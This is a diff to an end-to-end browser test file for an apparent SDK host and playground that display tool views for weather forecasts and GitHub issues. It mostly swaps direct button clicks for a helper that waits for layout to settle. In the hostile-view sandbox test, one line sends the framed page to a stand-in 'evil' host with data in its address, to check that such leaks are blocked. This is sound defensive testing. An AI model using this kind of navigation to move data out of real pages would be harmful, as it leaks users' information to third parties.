@@ -72,6 +72,16 @@ const DAYS = [
 const forecast = (days) => ({ city: "Berlin", country: "Germany", latitude: 52.52437, longitude: 13.41053, units: "celsius", days });
 const structured = (structuredContent) => ({ content: [{ type: "text", text: JSON.stringify(structuredContent) }], structuredContent });
 
+/** Presses a button of a view, once the frame is as high as its content: a click could miss a button that still moves. */
+async function press(frame, name) {
+  const button = frame.getByRole("button", { name });
+  await button.waitFor();
+  await frame.locator("html").evaluate(async (html) => {
+    while (html.scrollHeight > html.clientHeight) await new Promise((later) => setTimeout(later, 20));
+  });
+  await button.click();
+}
+
 /** Shows a page, or the view at an address, in the SDK's host. Returns the frame of the view. */
 async function shown(t, view, input, result, results = []) {
   const visitor = await Visitor.arrive(browser, hosting.base, { viewport: { width: 720, height: 800 } });
@@ -118,10 +128,10 @@ test("MC93 the SDK's host shows the forecast, and the view asks for more days", 
   await page.waitForFunction(() => globalThis.seen.sizes.at(-1) > 250);
   await page.evaluate(() => globalThis.bridge.setHostContext({ theme: "light" }));
   await frame.locator("html[data-theme=light]").waitFor();
-  await frame.getByRole("button", { name: "7 days" }).click();
+  await press(frame, "7 days");
   await frame.getByRole("listitem").nth(6).waitFor();
   assert.deepEqual((await seen()).calls, [{ name: "Weather_Forecast", input: { city: "Berlin", units: "celsius", days: 7 } }]);
-  await frame.getByRole("button", { name: "14 days" }).click();
+  await press(frame, "14 days");
   await frame.getByRole("alert").getByText("Too many days").waitFor();
   assert.deepEqual(await page.evaluate(() => globalThis.bridge.teardownResource({})), {});
   assert.deepEqual(await problems(), []);
@@ -131,14 +141,14 @@ test("MC93 the SDK's host shows issues, and the view opens another one", async (
   const issue = (number, title) => ({ number, title, state: "open", url: `https://github.com/octocat/hello-world/issues/${number}` });
   const results = [structured({ issues: [issue(2, "Second")], next_page: null }), structured(issue(4, "Fourth"))];
   const { page, frame, seen, problems } = await shown(t, ISSUES, { owner: "octocat", repository: "hello-world" }, structured({ issues: [issue(3, "Third")], next_page: 2 }), results);
-  await frame.getByRole("button", { name: "Show more" }).click();
+  await press(frame, "Show more");
   await frame.getByRole("button", { name: "Second" }).waitFor();
   assert.equal(await frame.getByRole("button", { name: "Show more" }).count(), 0);
   await frame.getByLabel("New issue").fill("Fourth");
-  await frame.getByRole("button", { name: "Open issue" }).click();
+  await press(frame, "Open issue");
   await frame.getByText("Issue #4 is open.").waitFor();
   assert.deepEqual(await frame.getByRole("row").locator("td:first-child").allInnerTexts(), ["#4", "#3", "#2"]);
-  await frame.getByRole("button", { name: "Third" }).click();
+  await press(frame, "Third");
   await page.waitForFunction(() => globalThis.seen.links.length > 0);
   const { calls, links } = await seen();
   assert.deepEqual(calls, [
@@ -163,7 +173,7 @@ test("MC93 the SDK's host shows the forecast of the shipped toolkit", async (t) 
   assert.equal(texts.length, 2, "without the day of which nothing is known");
   assert.match(texts[0], /26\. Nov\. rain High 5 °F ° Low 1 °F ° 4,2 mm/);
   assert.match(texts[1], /27\. Nov\. clear High 7 °F ° Low -2 °F ° dry/);
-  await frame.getByRole("button", { name: "7 days" }).click();
+  await press(frame, "7 days");
   await page.waitForFunction(() => globalThis.seen.calls.length > 0);
   assert.deepEqual((await seen()).calls, [{ name: "Weather_GetForecast", input: { ...input, days: 7 } }]);
   assert.deepEqual(await problems(), []);
@@ -195,15 +205,11 @@ async function playing(t, id, input, { view, ui = { csp: {} }, context, ...optio
   await visitor.open(id);
   await visitor.fill(input);
   for (const [label, value] of Object.entries(context ?? {})) {
-    await visitor.page.getByText("Use your own access token").click({ timeout: 1000 }).catch(() => {});
     await visitor.page.getByLabel(label, { exact: true }).fill(value);
   }
   await visitor.run();
   return { visitor, page: visitor.page, frame: visitor.page.frameLocator(".view iframe") };
 }
-
-/** Waits until a view has told its height: a click could miss a button that still moves. */
-const settled = (page) => page.locator('.view iframe:not([height="160"])').waitFor();
 
 test("the playground shows the view of a result, light and dark", async (t) => {
   const { visitor, page, frame } = await playing(t, "Weather.Forecast@1.0.0", { city: "Berlin" });
@@ -224,7 +230,9 @@ test("the playground shows the view of a result, light and dark", async (t) => {
   // The value itself is below.
   await page.locator(".value").getByText("Germany").waitFor();
   // A tool that only reads needs no consent.
-  await frame.getByRole("button", { name: "7 days" }).click();
+  const called = page.waitForResponse((response) => response.request().postDataJSON()?.method === "tools/call");
+  await press(frame, "7 days");
+  await called;
   await frame.locator("main[aria-busy=false]").waitFor();
   await isAccessible(page, "playground");
   await visitor.fits(320);
@@ -234,15 +242,14 @@ test("the playground shows the view of a result, light and dark", async (t) => {
 test("a call of a view that changes something waits for the visitor, and has the context of the call", async (t) => {
   const { visitor, page, frame } = await playing(t, "GitHub.ListIssues@1.0.0", { owner: "octocat", repository: "hello-world" }, { context: { "Access token for github": "a-token" } });
   await frame.getByLabel("New issue").fill("Broken");
-  await settled(page);
-  await frame.getByRole("button", { name: "Open issue" }).click();
+  await press(frame, "Open issue");
   const question = page.locator(".view .notice");
   await question.getByText("The view wants to run Create an issue, which may change something.").waitFor();
   await isAccessible(page, "question");
   await picture(page, "view-issues-question");
   await question.getByRole("button", { name: "Decline" }).click();
   await frame.getByText("The user declined").waitFor();
-  await frame.getByRole("button", { name: "Open issue" }).click();
+  await press(frame, "Open issue");
   await question.getByRole("button", { name: "Allow" }).click();
   await frame.getByText(/^Issue #\d+ is open\.$/).waitFor();
   assert.deepEqual(await visitor.problems(), []);
@@ -357,7 +364,9 @@ test("a hostile view reads nothing, reaches no one, and stays where it is", asyn
     "many links": "12",
     "another page": "asked",
   });
-  assert.equal(await page.getByRole("button", { name: "Allow" }).count(), 8, "the visitor decides");
+  const allow = page.getByRole("button", { name: "Allow" });
+  await allow.nth(7).waitFor();
+  assert.equal(await allow.count(), 8, "the visitor decides");
   // It may go nowhere: a page elsewhere would get what it has read.
   await frame.locator("body").evaluate((_, address) => void (location.href = address), `${evil.base}/away?data=1`);
   await page.waitForFunction(() => document.querySelector(".view iframe") !== null);
